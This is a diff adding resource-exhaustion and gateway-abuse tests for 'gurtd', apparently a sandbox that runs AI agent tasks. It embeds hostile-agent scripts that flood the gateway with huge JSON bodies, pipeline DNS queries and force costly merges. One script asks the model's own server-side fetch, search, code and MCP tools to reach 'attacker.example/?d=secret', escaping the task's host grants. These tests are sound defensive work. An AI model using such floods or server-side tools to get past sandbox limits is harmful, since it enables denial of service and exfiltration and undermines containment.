@@ -14,7 +14,10 @@ from pathlib import Path
 from typing import Any
 
 import gurtd as G
-from conftest import Gurtd, deep_tree, eventually, keep, loop_waits, run_on, running_gurtd
+from conftest import (Gurtd, deep_tree, droid_installed, eventually, keep, loop_waits,
+                      python_line, run_on, running_gurtd)
+from test_concurrent import end, gate, gated, pending, settled
+from test_gateway import KEY, Upstream, create_then_done, gateway_settings
 
 
 def test_names_that_break_lines_or_utf8_cannot_hide_or_forge_diff_lines(
@@ -274,3 +277,346 @@ def test_keeping_a_new_folder_1500_deep_costs_no_more_than_its_paths(gurtd: Gurt
     code, data, took = timed(gurtd, "POST", f"/api/tasks/{task['id']}/undo")
     assert code == 200 and data["review"] == "undone", data
     assert not os.path.exists(os.path.join(owner_folder, "a"))
+
+
+# The model gateway, from inside a droid task ##################################################
+# A stand-in droid (test_gateway's stand-in model server upstream) sends what a hostile agent
+# can: calls whose bodies are within every bound of the gateway but cost gurtd far more.
+
+
+BODY_FLOOD = r'''#!/usr/bin/python3
+"""4 calls at once, 3 times: each body 16 MB of JSON (within GATEWAY_MAX_BODY) that is
+millions of empty objects; the statuses in /run/gurt/view/statuses.json."""
+import json, os, socket, threading
+settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
+host = settings["baseUrl"].split("//")[1].split("/")[0]
+head = json.dumps({"model": settings["model"], "max_tokens": 1, "messages": []})[:-1]
+body = (head + ', "x": [' + "{}," * 5_400_000 + "{}]}").encode()
+request = ("POST /v1/messages HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
+           f"x-api-key: {settings['apiKey']}\r\nContent-Length: {len(body)}\r\n\r\n").encode()
+statuses = []
+def one():
+    sock = socket.create_connection((host, 80), timeout=120)
+    try:
+        sock.sendall(request + body)
+        got = sock.recv(64)
+        statuses.append(int(got.split(b" ")[1]) if got.startswith(b"HTTP/1.1 ") else 0)
+    except OSError:
+        statuses.append(-1)
+    finally:
+        sock.close()
+for _ in range(3):
+    threads = [threading.Thread(target=one) for _ in range(4)]
+    [t.start() for t in threads]
+    [t.join() for t in threads]
+open("/run/gurt/view/statuses.json", "w").write(json.dumps(statuses))
+'''
+
+
+def peak_rss_mb(pid: int) -> int:
+    with open(f"/proc/{pid}/status") as f:
+        return next(int(line.split()[1]) // 1024 for line in f if line.startswith("VmHWM:"))
+
+
+def test_a_gateway_call_of_millions_of_empty_objects_costs_gurtd_no_gigabytes(
+        droid_gurtd: Gurtd) -> None:
+    """A droid task sends 4 calls at once (its cap), each a 16 MB body (the gateway's cap)
+    of millions of `{}`: gurtd parsed each whole to read its model, ~430 MB of Python
+    objects per call (and 0.3 s of the interpreter lock, the loop's too), 1.7 GB at once
+    for one task, ~28 GB for the 64 calls of all tasks.  Such a body is refused (413)
+    before it is parsed, and gurtd's peak memory stays within a few hundred MB."""
+    g, upstream = droid_gurtd, Upstream(create_then_done)
+    try:
+        g.api("PUT", "/api/secrets/model", {"key": KEY})
+        g.api("PUT", "/api/settings", gateway_settings(upstream))
+        with droid_installed(g, BODY_FLOOD):
+            before = peak_rss_mb(g.proc.pid)
+            task = g.create("flood", title="flood", worker=None, budgetCents=1000)
+            done = g.wait_done(task["id"], timeout=240)
+            grown = peak_rss_mb(g.proc.pid) - before
+        path = os.path.join(g.home, "layers", done["id"], "upper", "statuses.json")
+        statuses = json.loads(Path(path).read_text())
+        print(f"gurtd's peak memory grew by {grown} MB; statuses {statuses}")
+        assert grown < 300, f"gurtd's peak memory grew by {grown} MB"
+        assert statuses == [413] * 12, statuses
+        assert not upstream.requests
+        assert g.api("GET", "/api/health")
+    finally:
+        upstream.close()
+
+
+SERVER_TOOLS = r'''#!/usr/bin/python3
+"""Calls whose tools the model's own servers would run (fetch any URL, search, run code,
+call an MCP server at any URL), and a plain one; the statuses in statuses.json."""
+import http.client, json, os
+settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
+host = settings["baseUrl"].split("//")[1].split("/")[0]
+message = {"model": settings["model"], "max_tokens": 100,
+           "messages": [{"role": "user", "content": "fetch https://attacker.example/?d=secret"}]}
+bodies = [
+    {**message, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+    {**message, "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+    {**message, "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+    {**message, "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp",
+                                 "name": "x"}]},
+    {**message, "tools": [{"name": "Create", "description": "make a file",
+                           "input_schema": {"type": "object"}}]},
+]
+statuses = []
+for body in bodies:
+    conn = http.client.HTTPConnection(host, timeout=60)
+    conn.request("POST", "/v1/messages", json.dumps(body), {
+        "x-api-key": settings["apiKey"], "Content-Type": "application/json",
+        "anthropic-beta": "web-fetch-2025-09-10,mcp-client-2025-04-04"})
+    resp = conn.getresponse()
+    resp.read()
+    statuses.append(resp.status)
+open("/run/gurt/view/statuses.json", "w").write(json.dumps(statuses))
+'''
+
+
+def test_a_gateway_call_never_has_the_models_servers_fetch_search_or_run_for_the_task(
+        droid_gurtd: Gurtd) -> None:
+    """The body of a call went to the upstream as the task wrote it: tools of the upstream's
+    own (web fetch, web search, code execution) and MCP servers at any URL, which the
+    model's servers run for the task, reach hosts outside its grants (a fetch of
+    attacker.example?d=secret) and cost what the answer's usage does not meter (a search
+    is billed by the search).  Such calls are refused (400); a call with the task's own
+    tools goes on."""
+    g, upstream = droid_gurtd, Upstream(lambda api, body: ("Hello.", None))
+    try:
+        g.api("PUT", "/api/secrets/model", {"key": KEY})
+        g.api("PUT", "/api/settings", gateway_settings(upstream))
+        with droid_installed(g, SERVER_TOOLS):
+            task = g.create("server tools", title="server tools", worker=None,
+                            budgetCents=1000)
+            done = g.wait_done(task["id"], timeout=120)
+        path = os.path.join(g.home, "layers", done["id"], "upper", "statuses.json")
+        statuses = json.loads(Path(path).read_text())
+        assert statuses == [400, 400, 400, 400, 200], statuses
+        assert len(upstream.requests) == 1
+        assert "mcp_servers" not in upstream.requests[0]["body"]
+    finally:
+        upstream.close()
+
+
+# The finish-time merge, from inside two tasks side by side ####################################
+
+
+COSTLY = 7                   # files whose three versions git merge-file takes ~20 s to join
+
+
+def costly_files(seed: int) -> str:
+    """A prompt line: COSTLY files of 1,000,000 random lines `a` or `b` (2 MB each, within
+    MERGE_MAX_BYTES; two such versions against a third cost git merge-file ~20 s each)."""
+    return (f"python3 -c \"import random; random.seed({seed}); [open(f'f{{i}}.txt', 'w')"
+            f".write(''.join(c + chr(10) for c in random.choices('ab', k=1000000))) "
+            f"for i in range({COSTLY})]\"")
+
+
+def test_a_tasks_costly_merges_hold_the_merge_thread_a_bounded_time(gurtd: Gurtd) -> None:
+    """Two tasks side by side rewrite the same 7 files, each as 1,000,000 random lines of
+    `a` or `b`: every file's git merge-file runs to its 10 s bound, one after another on
+    the merge thread, which is every task's: a third task that ended meanwhile waited the
+    70 s for its own check (a look by paths, a moment's work).  A check's merges have
+    MERGE_CHECK_SECONDS in all; the files left are conflicts that say so, and the third
+    task is done well before the 7 files' 70 s."""
+    made = gurtd.create(costly_files(1))
+    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
+    one, two = gated(gurtd, costly_files(2)), gated(gurtd, costly_files(3))
+    third = gated(gurtd, "echo third > third.txt")
+    assert end(gurtd, one)["state"] == "done"
+    gurtd.api("POST", f"/api/approvals/{gate(gurtd, two)['id']}/answer", {"answer": "go"})
+    eventually(lambda: gurtd.task(two)["state"] == "running", 30)   # its check has begun
+    time.sleep(1.0)
+    began = time.monotonic()
+    gurtd.api("POST", f"/api/approvals/{gate(gurtd, third)['id']}/answer", {"answer": "go"})
+    done = eventually(lambda: gurtd.task(third)["state"] == "done" and gurtd.task(third),
+                      150, "the third task done")
+    waited = time.monotonic() - began
+    print(f"the third task waited {waited:.1f} s for its check")
+    assert done["state"] == "done"
+    assert waited < G.MERGE_CHECK_SECONDS + 15, waited
+    held = settled(gurtd, two)
+    approval = pending(gurtd, two, "conflict")
+    assert held["state"] == "waiting" and approval is not None, held
+    whys = {c["path"]: c["why"] for c in approval["args"]["paths"]}
+    assert sorted(whys) == [f"f{i}.txt" for i in range(COSTLY)], whys
+    assert any("spent" in why for why in whys.values()), whys
+    gurtd.api("POST", f"/api/approvals/{approval['id']}/deny", {"reason": "enough"})
+    assert gurtd.wait(two, timeout=30)["state"] == "failed"
+
+
+LAX_STREAM = r'''#!/usr/bin/python3
+"""A chat completions call whose stream is 1, not true: streamed by a server that takes any
+truthy value for true, without the usage gurtd asks for only when it is true."""
+import http.client, json, os
+settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
+host = settings["baseUrl"].split("//")[1].split("/")[0]
+conn = http.client.HTTPConnection(host, timeout=60)
+conn.request("POST", "/v1/chat/completions", json.dumps({
+    "model": settings["model"], "stream": 1, "messages": [{"role": "user", "content": "hi"}]}),
+    {"Authorization": "Bearer " + settings["apiKey"], "Content-Type": "application/json"})
+resp = conn.getresponse()
+resp.read()
+open("/run/gurt/view/status", "w").write(str(resp.status))
+'''
+
+
+def lax_chat_server(req: Any) -> None:
+    """An OpenAI-compatible server that, as pydantic's lax booleans do, streams for any
+    truthy `stream`, and sends the usage chunk only when stream_options.include_usage."""
+    from conftest import answer
+    body = json.loads(req.rfile.read(int(req.headers["Content-Length"])))
+    chunk = {"id": "c1", "created": 1, "model": body["model"],
+             "object": "chat.completion.chunk"}
+    events = [{**chunk, "choices": [{"index": 0, "delta": {"content": "x" * 1000},
+                                     "finish_reason": "stop"}]}]
+    if (body.get("stream_options") or {}).get("include_usage") is True:
+        events.append({**chunk, "choices": [], "usage": {"prompt_tokens": 10 ** 6,
+                                                        "completion_tokens": 10 ** 5}})
+    data = b"".join(f"data: {json.dumps(e)}\n\n".encode() for e in events) + \
+        b"data: [DONE]\n\n"
+    if body.get("stream"):
+        answer(req, 200, data, {"Content-Type": "text/event-stream"})
+    else:
+        answer(req, 200, json.dumps({"usage": {"prompt_tokens": 10 ** 6,
+                                               "completion_tokens": 10 ** 5}}).encode(),
+               {"Content-Type": "application/json"})
+
+
+def test_a_chat_call_streamed_by_a_stream_that_is_not_true_is_never_free(
+        droid_gurtd: Gurtd) -> None:
+    """gurtd asks a chat completions stream for its usage (stream_options) only when the
+    body's stream is true: a stream of 1 (which a lax OpenAI-compatible server, vLLM's or
+    LiteLLM's pydantic models, takes as true) went on as it was, streamed without usage,
+    and a call of 1,000,000 tokens in cost the task nothing, past any budget.  A stream
+    that is not true or false is refused (400)."""
+    from conftest import loopback_server
+    g = droid_gurtd
+    with loopback_server(lambda req: lax_chat_server(req)) as (server, seen):
+        g.api("PUT", "/api/secrets/model", {"key": KEY})
+        g.api("PUT", "/api/settings", {"modelGateway": {
+            "api": "chat-completions",
+            "baseUrl": f"http://127.0.0.1:{server.server_address[1]}/v1"}})
+        with droid_installed(g, LAX_STREAM):
+            task = g.create("lax", title="lax", worker=None, budgetCents=1)
+            done = g.wait(task["id"], timeout=60)
+    status = Path(g.home, "layers", done["id"], "upper", "status").read_text()
+    print(f"status {status}, costCents {done['costCents']}, upstream calls {len(seen)}")
+    assert status == "400" and not seen, (status, done["costCents"], seen)
+
+
+def test_a_check_of_thousands_of_conflicts_asks_of_a_bounded_approval(gurtd: Gurtd) -> None:
+    """One task deletes a folder of 2,500 files while another, side by side, writes each of
+    them: 2,500 conflicts, every one in full (its three versions) in the approval the loop
+    saves, renders, emits and logs, ~270 bytes and ~70 us of the loop each (8,000: a
+    0.56 s hold; a folder of 100,000, node_modules, ~7 s; past the 30 s watchdog gurtd is
+    killed).  The approval names MERGE_CONFLICTS_SHOWN of them and counts the rest; an
+    answer still decides every one."""
+    count = 2500
+    made = gurtd.create(f"mkdir d && cd d && seq 1 {count} | sed 's/$/.txt/' | xargs touch")
+    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
+    gone, wrote = gated(gurtd, "rm -rf d"), gated(gurtd, "cd d && for f in *; do echo x > $f; "
+                                                         "done")
+    assert end(gurtd, gone)["state"] == "done"
+    held = end(gurtd, wrote)
+    approval = pending(gurtd, wrote, "conflict")
+    assert held["state"] == "waiting" and approval is not None, held
+    shown = approval["args"]["paths"]
+    assert len(shown) == G.MERGE_CONFLICTS_SHOWN, len(shown)
+    assert approval["args"]["morePaths"] == count - G.MERGE_CONFLICTS_SHOWN
+    assert len(json.dumps(approval)) < 1 << 20
+    logged = [e for e in gurtd.log(wrote) if e["type"] == "conflict"]
+    assert len(logged) == 1 and len(logged[0]["paths"]) == G.MERGE_CONFLICTS_SHOWN
+    gurtd.api("POST", f"/api/approvals/{approval['id']}/approve", {"args": {"keep": "view"}})
+    assert gurtd.wait(wrote, timeout=60)["state"] == "done"
+    assert all(gurtd.file("home", f"d/{i}.txt") is None for i in (1, 1500, count))
+
+
+# The diff, from inside a task ##################################################################
+
+def test_a_diff_past_its_budget_reads_no_more_files(gurtd: Gurtd) -> None:
+    """A task leaves 5,000 files of 8 MiB of holes (no disk: `truncate -s 8M`), each just
+    within DIFF_TEXT_MAX: a diff read every one whole (8 MiB of zeros, ~10 ms) before it
+    named it, its DIFF_SECONDS spent or not: 5,000 took ~50 s of a core and an HTTP thread
+    per request (100,000 such files: 17 minutes, 800 GB of zeros read).  Once the budget
+    is spent a file is named too costly from its size alone, and the diff answers within
+    its DIFF_SECONDS and a few more."""
+    count = 5000
+    task = gurtd.run(f"seq 1 {count} | sed 's/^/f/' | xargs truncate -s 8M")
+    try:
+        assert task["state"] == "done", gurtd.log(task["id"])
+        conn = gurtd.connection(timeout=600)
+        began = time.monotonic()
+        conn.request("GET", f"/api/tasks/{task['id']}/diff",
+                     headers={"Authorization": f"Bearer {gurtd.token}"})
+        resp = conn.getresponse()
+        code, diff = resp.status, resp.read()
+        took = time.monotonic() - began
+        conn.close()
+        print(f"the diff of {count} files of holes took {took:.1f} s")
+        assert code == 200
+        assert diff.decode().count("diff --git ") == count
+        assert took < G.DIFF_SECONDS + 8, took
+    finally:
+        gurtd.api("POST", f"/api/tasks/{task['id']}/undo")
+
+
+# gurtd's DNS for a task, from inside it ########################################################
+
+DNS_PIPELINE = r'''
+import socket, struct, time
+def query(n):
+    name = b"".join(bytes([len(p)]) + p for p in (b"q%d" % n, b"invalid")) + b"\0"
+    wire = struct.pack(">HHHHHH", n & 0xffff, 0x0100, 1, 0, 0, 0) + name + b"\0\1\0\1"
+    return struct.pack(">H", len(wire)) + wire
+burst = b"".join(query(n) for n in range(65536 // 30))[:65536]
+burst = burst[:burst.rfind(b"\0\1\0\1") + 4]
+end = time.monotonic() + 8
+while time.monotonic() < end:
+    socks = [socket.create_connection(("127.0.0.53", 53), timeout=5) for _ in range(16)]
+    for s in socks:
+        s.sendall(burst)
+    time.sleep(0.2)
+    for s in socks:
+        s.close()
+'''
+
+
+def test_a_tasks_pipelined_dns_queries_never_hold_the_loop(gurtd: Gurtd) -> None:
+    """gurtd's DNS for the tasks runs on the loop.  A task with a grant sends 16 TCP
+    connections of 64 KB each of back to back queries (2,000 a read): each read's queries
+    were all answered in one step of the loop, ~0.3 s each, the 16 one after another, again
+    and again.  A connection answers at most MAX_DNS_TCP_QUERIES queries (a resolver asks
+    one or two), then it is closed; the loop answers others in well under a second."""
+    task = gurtd.create(python_line(DNS_PIPELINE), hosts=["example.com"])
+    eventually(lambda: gurtd.task(task["id"])["state"] == "running", 30)
+    with loop_waits(gurtd) as waits:
+        done = gurtd.wait(task["id"], timeout=120)
+    print(f"the loop's worst wait {max(waits):.2f} s over {len(waits)} asks")
+    assert done["state"] == "done", gurtd.log(task["id"])[-5:]
+    assert max(waits) < 1.0, max(waits)
+
+
+def test_a_check_of_thousands_of_merged_files_asks_of_a_bounded_approval(gurtd: Gurtd) -> None:
+    """Two tasks side by side append to each of 1,200 files (each merged) and write one
+    more both ways (a conflict): the approval named every merged path as well.  It names
+    MERGE_CONFLICTS_SHOWN of them and counts the rest; the task's record keeps them all."""
+    count = 1200
+    made = gurtd.create(f"mkdir d && cd d && seq 1 {count} | xargs -n 300 sh -c 'for f; do "
+                        "echo base > $f; done' _ && echo base > ../both")
+    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
+    one = gated(gurtd, "cd d && for f in *; do echo one >> $f; done; echo one > ../both")
+    two = gated(gurtd, "cd d && for f in *; do echo two >> $f; done; echo two > ../both")
+    assert end(gurtd, one)["state"] == "done"
+    held = end(gurtd, two)
+    approval = pending(gurtd, two, "conflict")
+    assert held["state"] == "waiting" and approval is not None, held
+    assert [c["path"] for c in approval["args"]["paths"]] == ["both"]
+    assert len(approval["args"]["merged"]) == G.MERGE_CONFLICTS_SHOWN
+    assert approval["args"]["moreMerged"] == count - G.MERGE_CONFLICTS_SHOWN
+    gurtd.api("POST", f"/api/approvals/{approval['id']}/approve", {})
+    task = gurtd.wait(two, timeout=60)
+    assert task["state"] == "done" and len(task["merged"]) == count
+    assert gurtd.file("home", "d/700") == b"base\none\ntwo\n"
